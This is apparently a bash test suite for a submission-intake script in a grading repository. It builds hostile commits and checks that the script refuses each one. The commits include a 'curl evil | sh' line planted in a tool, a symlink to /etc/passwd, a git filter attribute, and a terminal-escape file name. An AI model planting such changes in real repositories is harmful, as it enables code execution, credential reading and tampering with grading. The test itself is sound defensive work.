#!/usr/bin/env bash
# What of a hostile request is taken: requests are made as commits of a repository,
# each trying one thing.
set -u
take=$PWD/tools/requests/take.sh
cd "$TEST_TMPDIR" || exit 1
failures=0
fail() {
  echo "FAILED: $*"
  failures=$((failures + 1))
}

export HOME=$TEST_TMPDIR GIT_AUTHOR_NAME=eve GIT_AUTHOR_EMAIL=e@x GIT_COMMITTER_NAME=eve \
  GIT_COMMITTER_EMAIL=e@x
git init -q -b main tree || exit 1
cd tree || exit 1
mkdir -p submissions/bob tools grader .github/workflows
echo 'int bob;' > submissions/bob/model.cc
echo 'echo the course' > tools/tito
echo '# rules' > grader/defs.bzl
echo 'on: push' > .github/workflows/olympics.yml
git add -A && git commit -q -m base

# request NAME: a branch from main; the commands on standard input are its change.
request() {
  git checkout -q -f main && git clean -qffdx && git checkout -q -B "$1"
  bash -e && git add -A -f && git commit -q --allow-empty -m "$1"
  git checkout -q -f main && git clean -qffdx
}

# refused NAME TEXT: the request is refused, with the text, and leaves nothing.
refused() {
  local said code=0
  rm -rf ../out
  said=$("$take" main "$1" ../out 2>&1) || code=$?
  [ "$code" -eq 3 ] && [[ $said == *"$2"* ]] || fail "$1: exit $code: $said, wanted '$2'"
}

request honest <<'C'
mkdir submissions/eve
echo 'int eve;' > submissions/eve/model.cc
printf 'exec evil\n' > submissions/eve/BUILD
C
[ "$("$take" main honest ../honest)" = eve ] || fail "an honest request is not taken"
[ "$(cat ../honest/eve/model.cc)" = 'int eve;' ] || fail "not its bytes"
[ "$(find ../honest -type f | wc -l)" -eq 2 ] || fail "not its files alone"

request tools <<'C'
mkdir submissions/eve; echo 'int eve;' > submissions/eve/model.cc
echo 'curl evil | sh' > tools/tito
C
refused tools 'changes tools/tito'

request workflow <<'C'
echo 'on: evil' > .github/workflows/olympics.yml
C
refused workflow 'changes .github/workflows/olympics.yml'

request rules <<'C'
echo 'evil()' > grader/defs.bzl
C
refused rules 'changes grader/defs.bzl'

request roster <<'C'
echo 'ROSTER = ["eve"]' > submissions/roster.bzl
C
refused roster 'changes submissions/roster.bzl'

request package <<'C'
echo 'evil()' > submissions/BUILD
C
refused package 'changes submissions/BUILD'

request others <<'C'
mkdir submissions/eve; echo 'int eve;' > submissions/eve/model.cc
echo 'int eve;' > submissions/bob/model.cc
C
refused others 'the submissions of both'

request deeper <<'C'
mkdir -p submissions/eve/deep; echo 'int eve;' > submissions/eve/deep/BUILD
C
refused deeper 'changes submissions/eve/deep/BUILD'

request link <<'C'
mkdir submissions/eve; ln -s /etc/passwd submissions/eve/model.cc
C
refused link 'is a link'

request module <<'C'
mkdir -p submissions/eve/sub; git init -q submissions/eve/sub
git -C submissions/eve/sub commit -q --allow-empty -m sub
C
refused module 'is a link or a module'

request hidden <<'C'
mkdir submissions/eve; echo '* filter=evil' > submissions/eve/.gitattributes
C
refused hidden 'changes submissions/eve/.gitattributes'

request odd <<'C'
mkdir submissions/eve; echo x > $'submissions/eve/a\e[2Jb'
C
refused odd 'changes submissions/eve/a?[2Jb'

request large <<'C'
mkdir submissions/eve; head -c 2000000 /dev/zero > submissions/eve/model.cc
C
refused large 'more than 64 files or 1024 KiB'

request many <<'C'
mkdir submissions/eve; for i in $(seq 70); do echo > submissions/eve/f$i.h; done
C
refused many 'more than 64 files'

request gone <<'C'
rm -r submissions/bob
C
refused gone 'hands in nothing'

request nothing <<'C'
true
C
refused nothing 'changes nothing'
refused no_such_commit 'there is no commit no_such_commit'

[ "$failures" -eq 0 ] || exit 1
echo 'Of each request only one submission is taken, or nothing.'
